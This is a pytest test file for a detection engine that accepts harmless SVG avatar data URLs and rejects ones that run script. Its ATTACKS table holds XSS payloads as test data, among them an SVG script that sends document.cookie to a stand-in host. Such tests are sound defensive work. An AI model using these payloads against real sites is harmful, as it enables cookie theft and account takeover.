"""Unit: a ``data:image/svg+xml`` URL is judged by the SVG it carries (base64, percent-encoded or plain): an avatar
or icon of shapes, text and gradients is an image and passes; one with a script element, an event handler,
``foreignObject``, a ``javascript:`` link or a base64 payload that is no text is refused. The older rule refused
every such URL.

Values are written for these tests."""

from __future__ import annotations

import base64
import time
from urllib.parse import quote

import pytest

from bastion.detection import Engine
from bastion.detection.rules import Context

NOTE = Context(kind="body", name="note")
AVATAR = Context(kind="body", name="avatar")


def _svg(markup: str) -> str:
    return "data:image/svg+xml;base64," + base64.b64encode(markup.encode()).decode()


ICON = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 48 48"><rect width="48" height="48" rx="9" '
    'fill="#2d6a4f"/><text x="24" y="31" font-size="18" text-anchor="middle" fill="#fff">QK</text></svg>'
)
GRADIENT = (
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '\n  <defs><radialGradient id="r"><stop offset="0.2" stop-color="gold"/></radialGradient></defs>\n'
    '  <circle cx="5" cy="5" r="4" fill="url(#r)"/>\n</svg>\n'
)

ATTACKS = {
    "svg_data_onload": _svg('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"/>'),
    "svg_data_script_element": _svg("<svg><script>fetch('//x.test/'+document.cookie)</script></svg>"),
    "svg_data_foreign_object": _svg("<svg><foreignObject><p>hi</p></foreignObject></svg>"),
    "svg_data_javascript_link": _svg('<svg><a href="javascript:alert(4)"><text>go</text></a></svg>'),
    "svg_data_script_in_img_tag": '<img src="' + _svg("<svg onload=alert(5)>") + '">',
    "svg_data_percent_encoded_base64": "data:image/svg+xml;base64,"
    + quote(base64.b64encode(b"<svg><script>alert(6)</script></svg>").decode(), safe=""),
    "svg_data_plain_markup_handler": "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' "
    "onmouseover='alert(8)'/>",
    "svg_data_base64_not_text": "data:image/svg+xml;base64," + base64.b64encode(bytes(range(40))).decode(),
}

BENIGN = {
    "svg_avatar_base64": _svg(ICON),
    "svg_gradient_with_declaration_base64": _svg(GRADIENT),
    "svg_avatar_plain_markup": "data:image/svg+xml;utf8," + ICON,
    "svg_avatar_percent_encoded": "data:image/svg+xml," + quote(ICON, safe=""),
    "svg_avatar_in_img_tag": '<img alt="me" src="' + _svg(ICON) + '">',
    "svg_media_type_mentioned": "Avatars may be PNG or data:image/svg+xml URLs.",
}


@pytest.mark.parametrize("value", ATTACKS.values(), ids=ATTACKS.keys())
def test_rejects_svg_data_urls_that_run_script(engine: Engine, value: str) -> None:
    assert engine.inspect(value, AVATAR) is not None


@pytest.mark.parametrize("value", BENIGN.values(), ids=BENIGN.keys())
def test_passes_svg_avatars_and_icons(engine: Engine, value: str) -> None:
    assert engine.inspect(value, AVATAR) is None


@pytest.mark.parametrize("unit", ["data:image/svg+xml,x ", "data:image/svg+xml;base64,PHN2Zz4= "])
def test_many_svg_data_urls_stay_linear_on_128_kib(engine: Engine, unit: str) -> None:
    value = (unit * (128 * 1024 // len(unit) + 1))[: 128 * 1024]
    start = time.process_time()
    engine.inspect(value, NOTE)
    assert time.process_time() - start < 2.0
